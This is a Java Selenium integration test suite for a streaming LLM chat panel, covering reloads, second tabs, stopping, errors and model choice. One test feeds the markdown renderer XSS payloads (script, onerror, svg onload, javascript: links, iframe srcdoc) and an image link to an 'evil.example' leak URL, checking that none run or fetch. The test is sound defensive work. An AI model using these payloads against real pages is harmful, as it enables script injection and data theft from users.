package millrace.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import millrace.chat.ScriptedUpstream;
import millrace.harness.Browser;
import millrace.harness.Container;
import millrace.harness.ContainerTest;
import millrace.harness.OnContainers;
import millrace.harness.Server;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WindowType;

/** The panel "Chat" in Chromium, with the built-in model. */
@OnContainers({Container.TOMCAT_11, Container.JETTY_12_1})
class ChatPanelIT {

    private static final Duration LIMIT = Duration.ofSeconds(60);
    private static final String LAST = "document.querySelector('.turn:last-child .answer')";

    /** Reasoned about for four seconds, answered for twenty: a slow machine's browser sees both. */
    private static final String LONG = "How does a stream resume after a cut?";

    private static final String WATCH_FOR_UNFOLDED_REASONING = """
            new MutationObserver(() => {
              const reasoning = document.querySelector('.turn:last-child .answer .reasoning');
              if (reasoning?.open && reasoning.querySelector('.text').textContent.length > 10) {
                window.sawReasoningUnfolded = true;
              }
            }).observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });""";

    private static final String TEXT = "document.querySelector('.turn:last-child .markdown').textContent";

    @ContainerTest
    void anAnswerGoesOnAfterAReloadAndInASecondTab(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            int before = page.requestsTo("/v1/chat/completions").size();
            browser.js(WATCH_FOR_UNFOLDED_REASONING); // a moment that a slow machine's test would come too late for
            ask(browser, page, LONG);
            browser.waitFor("window.sawReasoningUnfolded", LIMIT);
            // the guide says 30 tokens a second
            browser.waitFor("Number(document.getElementById('chat-rate').textContent) > 5", LIMIT);
            browser.waitFor("Number(document.getElementById('chat-tokens').textContent) > 5", LIMIT);
            assertTrue(page.text("#chat-first").matches("\\d+ ms"), page.text("#chat-first"));
            browser.driver().navigate().refresh();
            browser.waitFor(LAST + "?.querySelector('.reasoning .text').textContent.length > 40", LIMIT);
            assertFalse((boolean) browser.js("return " + LAST + ".dataset.state === 'done'"), "still going on");

            String first = browser.driver().getWindowHandle();
            browser.driver().switchTo().newWindow(WindowType.TAB);
            String second = browser.driver().getWindowHandle();
            browser.open(server.uri("/"));

            List<Object> texts = new ArrayList<>();
            for (String tab : List.of(second, first)) {
                browser.driver().switchTo().window(tab);
                browser.waitFor(LAST + "?.dataset.state === 'done'", LIMIT);
                texts.add(browser.js("return " + TEXT));
            }
            assertEquals(texts.get(0), texts.get(1), "both tabs have the same answer");
            assertTrue(texts.get(0).toString().contains("guide"), texts.toString());
            assertEquals(before + 1, page.requestsTo("/v1/chat/completions").size(), "one question, asked once");

            browser.driver().navigate().refresh();
            browser.waitFor(LAST + "?.dataset.state === 'done'", LIMIT);
            assertEquals(texts.get(0), browser.js("return " + TEXT), "what is finished is kept");
            page.assertNothingWasBlockedOrThrown();
        }
    }

    @ContainerTest
    void theModelThatIsChosenAnswersAndItsReasoningFolds(Container container) throws Exception {
        try (ScriptedUpstream upstream = new ScriptedUpstream();
                Server server = Server.start(
                        container,
                        Map.of(
                                "millrace.chat.upstreams",
                                "two=" + upstream.baseUrl(),
                                "millrace.chat.models",
                                "two=first,two=second"));
                Browser browser = Browser.start()) {
            upstream.on("second", exchange -> {
                exchange.stream();
                exchange.delta("{\"reasoning\":\"Let me think.\"}"); // the name that vLLM and Ollama give it
                exchange.text("I am **second**.");
                exchange.finish();
                exchange.done();
                exchange.end();
            });
            PageInBrowser page = PageInBrowser.open(browser, server);
            browser.waitFor("document.querySelectorAll('#chat-model option').length === 3", LIMIT);
            page.set("chat-model", "second");
            ask(browser, page, "Who are you?");
            browser.waitFor(LAST + "?.dataset.state === 'done'", LIMIT);

            assertEquals("I am second.", browser.js("return " + TEXT).toString().strip());
            assertEquals("Let me think.", page.text(".turn .reasoning .text").strip());
            assertEquals(false, browser.js("return " + LAST + ".querySelector('.reasoning').open"));
            assertTrue(upstream.await().body().contains("\"model\":\"second\""));
        }
    }

    @ContainerTest
    void stopEndsTheRunForAllItsReaders(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            ask(browser, page, LONG);
            browser.waitFor(LAST + ".querySelector('.reasoning .text').textContent.length > 10", LIMIT);
            String first = browser.driver().getWindowHandle();
            browser.driver().switchTo().newWindow(WindowType.TAB);
            String second = browser.driver().getWindowHandle();
            browser.open(server.uri("/"));
            browser.waitFor(LAST + "?.querySelector('.reasoning .text').textContent.length > 10", LIMIT);

            page.click("#chat-stop");

            browser.waitFor(LAST + ".dataset.state === 'ended'", LIMIT);
            assertEquals("Stopped.", page.text(".turn:last-child .outcome"));
            browser.driver().switchTo().window(first);
            browser.waitFor(LAST + ".dataset.state === 'ended'", LIMIT);
            assertEquals("The answer was stopped.", page.text(".turn:last-child .outcome"));
            browser.driver().switchTo().window(second);
            page.assertNothingWasBlockedOrThrown();
        }
    }

    @ContainerTest
    void anErrorIsSaidInWordsAndTheQuestionStays(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            browser.waitFor("document.querySelector('#chat-model option')", LIMIT);
            browser.js("document.querySelector('#chat-model option').value = 'no-such-model'");
            browser.driver().findElement(By.id("chat-question")).sendKeys("Hello?" + Keys.ENTER);
            browser.waitFor("document.getElementById('chat-say').dataset.state === 'failed'", LIMIT);

            assertTrue(page.text("#chat-say").contains("no-such-model"), page.text("#chat-say"));
            assertEquals("Hello?", browser.js("return document.getElementById('chat-question').value"));
        }
    }

    @ContainerTest
    void escapeStopsAnAnswerAndWhatWasEnteredMeanwhileStays(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            ask(browser, page, "What is Millrace?");
            browser.waitFor("Number(document.getElementById('chat-tokens').textContent) > 3", LIMIT);
            browser.driver().findElement(By.id("chat-question")).sendKeys("And then?" + Keys.ENTER);
            assertTrue(page.text("#chat-say").contains("Escape stops it"), page.text("#chat-say"));

            browser.driver().switchTo().activeElement().sendKeys(Keys.ESCAPE);

            browser.waitFor(LAST + ".dataset.state === 'ended'", LIMIT);
            assertEquals("Stopped.", page.text(".turn:last-child .outcome"));
            assertEquals("And then?", browser.js("return document.getElementById('chat-question').value"));
            assertEquals(1L, browser.js("return document.querySelectorAll('.turn').length"));
            page.assertNothingWasBlockedOrThrown();
        }
    }

    @ContainerTest
    void aQuestionThatIsEnteredWhileAnAnswerComesIsAskedAfterIt(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            ask(browser, page, "What is Millrace?");
            browser.waitFor("Number(document.getElementById('chat-tokens').textContent) > 3", LIMIT);
            browser.driver().findElement(By.id("chat-question")).sendKeys("How do I run it?" + Keys.ENTER);
            assertEquals(1L, browser.js("return document.querySelectorAll('.turn').length"));

            browser.waitFor("document.querySelectorAll('.turn').length === 2", LIMIT);
            assertEquals("How do I run it?", page.text(".turn:last-child .question"));
            assertEquals("done", browser.js("return document.querySelector('.turn .answer').dataset.state"));
            page.assertNothingWasBlockedOrThrown();
        }
    }

    @ContainerTest
    void anAnswerThatIsGoneIsToldAndWhatWasThereStays(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            browser.js("""
                    localStorage.setItem('millrace.chat', JSON.stringify([{
                      id: '1', question: 'Old?', run: {url: new URL('streams/AAAAAAAAAAAAAAAAAAAAAA', location).href, secret: 's'},
                      answer: {content: 'half of it', reasoning: '', error: null},
                    }]))""");
            browser.driver().navigate().refresh();
            browser.waitFor(LAST + "?.dataset.state === 'failed'", LIMIT);

            assertEquals("The server does not keep this answer any more.", page.text(".turn .outcome"));
            assertEquals("half of it", browser.js("return " + TEXT).toString().strip());
        }
    }

    @ContainerTest
    void aBrowserThatKeepsNothingForThePageCanChatUntilItIsLeft(Server server) {
        try (Browser browser = Browser.start()) {
            browser.driver().executeCdpCommand("Page.addScriptToEvaluateOnNewDocument", Map.of("source", """
                    Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError'); }});
                    """));
            PageInBrowser page = PageInBrowser.open(browser, server);
            ask(browser, page, "What is Millrace?");
            browser.waitFor(LAST + ".dataset.state === 'done'", LIMIT);
            page.assertNothingWasBlockedOrThrown();
        }
    }

    @ContainerTest
    void aNewConversationInMidAnswerBeginsEmpty(Server server) throws Exception {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            ask(browser, page, "What is Millrace?");
            browser.waitFor("Number(document.getElementById('chat-tokens').textContent) > 5", LIMIT);

            page.click("#chat-clear");

            browser.waitFor(
                    "performance.getEntriesByType('resource')"
                            + ".some(it => it.initiatorType === 'fetch' && it.name.includes('/streams/'))",
                    LIMIT);
            Thread.sleep(500); // nothing is to happen when the old answer has been stopped
            assertEquals(
                    List.of("–", "", "ready"),
                    List.of(page.text("#chat-tokens"), page.text("#chat-say"), page.text("#chat-tab .state")));
            ask(browser, page, "And now?");
            page.assertNothingWasBlockedOrThrown();
        }
    }

    /** A model may repeat what an attacker wrote. Rendered in the page itself, with its policy. */
    @ContainerTest
    void markdownOfAModelRunsNothingAndFetchesNothing(Server server) {
        try (Browser browser = Browser.start()) {
            PageInBrowser page = PageInBrowser.open(browser, server);
            Object found = browser.driver().executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    import('/page/markdown.js').then(({MarkdownView}) => {
                      const place = document.createElement('section');
                      document.body.append(place);
                      const view = new MarkdownView(place);
                      const text = arguments[0];
                      for (let i = 1; i <= text.length; i++) view.show(text.slice(0, i));  // as it streams in
                      const described = element => [element.localName,
                          ...[...element.attributes].map(({name, value}) => name + '=' + value)].join(' ');
                      setTimeout(() => done([...place.querySelectorAll('*')].map(described)), 300);
                    });
                    """, """
                    <script>window.hit = 1</script><img src=x onerror="window.hit = 2"><svg/onload=window.hit=3>

                    [a](javascript:window.hit=4) [b](data:text/html,x) [c](https://example.org/ "t") [d](//evil.example/)

                    ![e](https://evil.example/leak?q=1) <iframe srcdoc="<script>parent.hit=5</script>"></iframe>

                    <div style="position:fixed">x</div> <a href="jav&#x09;ascript:window.hit=6">f</a>

                    **bold** `<b>`

                        a long line
                    """);

            assertEquals(null, browser.js("return window.hit"));
            assertEquals(
                    List.of(
                            "div",
                            "div", // a block each
                            "p",
                            "a",
                            "a",
                            "a href=https://example.org/ title=t rel=noopener noreferrer nofollow target=_blank",
                            "a",
                            "div",
                            "p",
                            "div",
                            "div",
                            "p",
                            "strong",
                            "code",
                            "div",
                            "pre tabindex=0", // scrolled by keyboard too
                            "code"),
                    found);
            page.assertNothingWasBlockedOrThrown();
        }
    }

    private static void ask(Browser browser, PageInBrowser page, String question) {
        browser.waitFor("document.querySelector('#chat-model option')", LIMIT);
        browser.driver().findElement(By.id("chat-question")).sendKeys(question + Keys.ENTER);
        browser.waitFor("document.querySelector('.turn .question')", LIMIT);
        assertEquals(question, page.text(".turn:last-child .question"));
    }
}
